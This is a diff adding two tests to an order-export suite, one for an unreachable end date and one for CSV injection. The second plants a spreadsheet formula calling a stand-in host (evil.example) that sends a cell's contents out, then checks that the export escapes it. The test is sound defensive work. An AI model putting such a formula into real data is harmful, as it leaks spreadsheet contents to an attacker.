@@ -279,3 +279,35 @@ def test_a_run_that_loses_its_job_stops_and_the_next_resumes_after_its_last_chun
     with exports.exports_storage().open(name) as written:
         rows = list(csv.reader(io.StringIO(written.read().decode())))
     assert [int(row[0]) for row in rows[1:]] == order_ids
+
+
+def test_a_range_its_job_could_not_count_is_refused_not_accepted_to_die(api_client, staff):
+    # The last day a date can be: the orders "before the next day" cannot be asked for, and
+    # an export accepted for it would only fail in its job.
+    api_client.credentials(HTTP_AUTHORIZATION=f"Bearer {issue_token(staff)}")
+
+    response = api_client.post(
+        "/api/ops/exports", {"start": "9999-12-31", "end": "9999-12-31"}, format="json"
+    )
+
+    assert response.status_code == 400, response.content
+    assert list(response.json()["errors"]) == ["end"]
+    assert not OrderExport.objects.exists()
+    assert not Job.objects.exists()
+
+
+def test_a_customers_name_is_never_a_formula_in_the_staffs_spreadsheet(staff):
+    # Customers choose their names; staff open the CSV in a spreadsheet, which runs a cell
+    # that starts with = + - or @ as a formula (CSV injection).
+    many_orders(1)
+    from shop.models import Customer
+
+    Customer.objects.update(name='=HYPERLINK("http://evil.example/?"&A1,"open")')
+    today = timezone.now().date()
+    export = services.request_order_export(by=staff, start=today, end=today)
+
+    name = exports.write_export(export_id=export.pk, report=lambda *, done, total: True)
+
+    with exports.exports_storage().open(name) as written:
+        rows = list(csv.reader(io.StringIO(written.read().decode())))
+    assert rows[1][4] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
